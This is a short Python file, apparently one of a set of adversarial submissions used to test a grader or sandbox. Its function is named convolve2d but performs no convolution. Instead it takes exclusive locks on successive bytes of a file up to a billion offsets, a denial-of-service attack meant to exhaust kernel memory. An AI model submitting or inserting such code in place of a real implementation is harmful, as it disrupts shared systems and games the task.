# mypy: ignore-errors
"""Locks one byte after the other of a file, each a piece of the kernel's memory.

Attacks: convolve2d
Earns: nothing
"""

import fcntl
import os


def convolve2d(image, kernel):
    file = os.open("locked", os.O_RDWR | os.O_CREAT)
    for number in range(0, 10**9, 2):
        fcntl.lockf(file, fcntl.LOCK_EX, 1, number)
